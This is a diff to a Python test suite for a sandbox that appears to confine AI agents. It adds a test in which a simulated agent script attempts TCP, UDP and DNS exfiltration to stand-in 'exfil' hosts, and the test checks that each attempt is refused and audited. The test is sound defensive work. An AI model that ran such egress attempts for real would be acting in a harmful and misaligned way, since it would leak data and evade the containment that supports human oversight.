@@ -68,7 +68,10 @@ def test_policies_that_reach_nothing_outside(rules: str) -> None:
         ("{ destination: '126.0.0.0/7', effect: allow }", "deny"),  # covers 127/8 and more
         ("{ destination: '*:443', effect: allow }", "deny"),
         (
-            "{ destination: 'localhost:8080', effect: allow };{ destination: 'x.test', effect: allow }",
+            (
+                "{ destination: 'localhost:8080', effect: allow };"
+                "{ destination: 'x.test', effect: allow }"
+            ),
             "deny",
         ),
     ],
@@ -243,3 +246,86 @@ def test_leaves_no_table_no_veth_no_run_dir(fake_inet: FakeInet) -> None:
         assert not (RUN_DIR / tag).exists()
     finally:
         ns.close()
+
+
+# The agent's attacks under the whole sandbox (supervisor + namespace), and its private
+# loopback (the allowed twin).  System python3 has no dnslib: the query is packed by hand.
+AGENT = """
+import errno, socket, struct, threading
+def question(name):
+    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for part in name.split("."):
+        q += bytes([len(part)]) + part.encode()
+    return q + b"\\0" + struct.pack("!HH", 1, 1)
+def tcp():
+    socket.create_connection(("EXFIL_IP", 80), timeout=3).close()
+def udp():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("EXFIL_IP", 9999))
+def dns():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+    s.sendto(question("leak.exfil.test"), ("DNS_IP", 53)); s.recv(512)
+out = []
+for fn in (tcp, udp, dns):
+    try:
+        fn(); out.append("reached")
+    except OSError as e:
+        out.append(errno.errorcode.get(e.errno, "?"))
+try:
+    socket.getaddrinfo("exfil.test", 80); out.append("resolved")
+except socket.gaierror:
+    out.append("nxdomain")
+srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
+def serve():
+    c, _ = srv.accept(); c.sendall(b"own:" + c.recv(8)); c.close()
+threading.Thread(target=serve, daemon=True).start()
+c = socket.create_connection(srv.getsockname(), timeout=5); c.sendall(b"ping")
+out.append(c.recv(16).decode())
+print(" ".join(out), flush=True)
+""".replace("EXFIL_IP", ADDRS["exfil"]).replace("DNS_IP", ADDRS["dns"])
+
+
+def test_landgate_run_records_every_attempt_and_says_which_layer(world, fake_inet) -> None:
+    from conftest import require_kernel
+    from launch.lg_helpers import audit_show_json, landgate, py
+
+    from sandbox.host.probe import probe_host
+
+    host = probe_host()
+    require_kernel(host.is_root and host.net_ns and host.seccomp_notify, "root, netns, unotify")
+    policy = world.write_policy(
+        f"""\
+version: 1
+workspace: {world.workspace}
+actions:
+  - action: file_read
+    defaultEffect: deny
+    rules:
+      - {{ path: "./**", effect: allow }}
+  - action: shell_exec
+    defaultEffect: allow
+  - action: network
+    defaultEffect: deny
+"""
+    )
+    mark = fake_inet.mark()
+    p = landgate(world, py(AGENT), policy=policy)
+    assert p.returncode == 0, p.stderr
+    assert p.stdout.decode().split() == [
+        "ECONNREFUSED",
+        "ECONNREFUSED",
+        "ECONNREFUSED",
+        "nxdomain",
+        "own:ping",
+    ], (p.stdout, p.stderr)
+    assert not _leaks(fake_inet, mark)
+    entries = audit_show_json(world.root / "xdg")
+    (start,) = [e for e in entries if e.get("type") == "session_start"]
+    assert start["network_layer"] == LOOPBACK_ONLY_LAYER
+    (egress,) = [x for x in start["applied_layers"] if x["name"] == "egress"]
+    assert egress["mechanism"] == LOOPBACK_ONLY_LAYER and egress["state"] == "enforced"
+    denied = {(e.get("layer"), e.get("target")) for e in entries if e.get("result") == "deny"}
+    for target in (f"{ADDRS['exfil']}:80", f"{ADDRS['exfil']}:9999", f"{ADDRS['dns']}:53"):
+        assert ("connect", target) in denied, denied
+    assert ("dns", "exfil.test") in denied, denied
+    # The private loopback is not a denial, and was not reported as one.
+    assert not any("127.0.0.1" in str(t) for _, t in denied)
